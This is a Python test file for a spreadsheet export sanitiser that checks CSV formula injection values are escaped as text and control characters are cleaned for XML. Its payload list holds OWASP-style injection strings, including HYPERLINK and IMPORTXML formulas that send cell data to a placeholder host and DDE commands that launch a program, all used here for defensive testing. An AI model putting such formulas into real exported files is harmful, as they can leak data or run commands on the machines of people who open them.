"""The two rules for text leaving Consult in files (consult/cells.py)."""

from __future__ import annotations

import csv
import io

import pytest

from consult.cells import FORMULA_STARTS, spreadsheet_row, spreadsheet_value, xml_text

# OWASP's CSV injection examples and their usual variants.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "+Smith",
    "-Jones",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
]
CONTROLS = [chr(code) for code in range(32)] + ["\ud800", "\ufffe", "\uffff"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formulas_become_text(payload):
    value = spreadsheet_value(payload)
    assert value.startswith("'")
    assert value[1:] == xml_text(payload)  # the text itself is kept whole


def test_ordinary_text_and_numbers_are_untouched():
    assert spreadsheet_value("More buses, please") == "More buses, please"
    assert spreadsheet_value("Price £2 - too much") == "Price £2 - too much"
    assert spreadsheet_value(-3) == -3 and spreadsheet_value(0.25) == 0.25
    assert spreadsheet_value(None) is None


@pytest.mark.parametrize("character", CONTROLS)
def test_every_control_character_leaves_text_an_xml_document_can_hold(character):
    from openpyxl import Workbook, load_workbook

    text = f"before{character}after"
    cleaned = xml_text(text)
    assert cleaned.startswith("before") and cleaned.endswith("after")
    book = Workbook()
    book.active.append(spreadsheet_row([text, f"={character}1"]))
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(values_only=True))
    assert row[0] == cleaned
    assert str(row[1]).startswith("'")


def test_word_line_breaks_become_line_breaks():
    assert xml_text("first\x0bsecond\x0cthird") == "first\nsecond\nthird"
    assert xml_text("tab\tand\nline\r") == "tab\tand\nline\r"


def test_a_csv_written_with_the_rule_reads_back_as_text():
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for payload in PAYLOADS:
        writer.writerow(spreadsheet_row([payload, 3]))
    for payload, row in zip(PAYLOADS, csv.reader(io.StringIO(buffer.getvalue())), strict=True):
        assert row[0][:1] == "'" and row[1] == "3"
        assert row[0][1:] == xml_text(payload)


def test_the_formula_starts_include_owasps_list():
    assert set("=+-@\t\r") <= set(FORMULA_STARTS)
